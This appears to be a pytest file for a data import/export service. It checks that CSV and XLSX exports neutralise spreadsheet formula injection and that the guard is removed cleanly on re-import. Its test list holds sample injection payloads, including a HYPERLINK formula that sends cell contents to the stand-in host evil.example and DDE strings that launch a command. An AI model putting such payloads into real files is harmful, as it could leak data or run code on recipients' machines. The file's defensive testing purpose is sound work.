"""Exports and reports cannot run code in the program that opens them (S5, OWASP's CSV
injection), and the guard comes off again when the file is imported back."""
import csv
import io
import zipfile

import pytest

from services.imports import parsing
from services.imports.settings import limits
from services.imports.writing import guarded, unguarded, write_csv, write_xlsx

LIMITS = limits({})
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "cmd|'/C calc'!A0",
           "=cmd|'/C calc'!A0", "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "'=already quoted", "''", "'plain", "Chi bộ thôn Nội Phật"]
COLUMNS = ["unit_id", "name"]


def rows():
    return [{"unit_id": f"u{index}", "name": value} for index, value in enumerate(HOSTILE)]


def test_a_csv_cell_that_would_start_a_formula_starts_with_a_quote():
    text = write_csv(COLUMNS, rows()).decode("utf-8-sig")
    cells = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells[0] == "'" + HOSTILE[0] and cells[3] == "'+84 912 345 678"
    assert cells[8] == "''=already quoted" and cells[9] == "''" and cells[11] == HOSTILE[11]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_guard_comes_off_exactly(value):
    assert unguarded(guarded(value)) == value


def test_an_xlsx_cell_is_always_text_never_a_formula():
    from openpyxl import load_workbook
    data = write_xlsx({"units": (COLUMNS, rows())})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = load_workbook(io.BytesIO(data))
    cells = [row[1] for row in book["units"].iter_rows(min_row=2)]
    assert all(cell.data_type in ("s", "inlineStr") for cell in cells)
    # XML itself reads a carriage return as a line feed
    assert [cell.value for cell in cells] == [value.replace("\r", "\n") for value in HOSTILE]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(fmt):
    data = write_csv(COLUMNS, rows()) if fmt == "csv" else \
        write_xlsx({"units": (COLUMNS, rows())})
    sheet, = parsing.read_file(data, f"units.{fmt}", None, LIMITS)
    # the import trims each cell (a tab or a CR at either end is space to it)
    assert [cells["name"] for _, cells in sheet.rows] == \
        [value.strip() or None for value in HOSTILE]


def test_coverage_reports_are_guarded_too():
    from services.imports.queries import _report
    report = _report({"format": "csv"}, {"units": [
        {"unit_id": "vp", "name": "=1+1", "level": "@branch"}]}, "units",
        ["unit_id", "name", "level"])
    assert report["csv"].splitlines()[1] == "vp,'=1+1,'@branch"
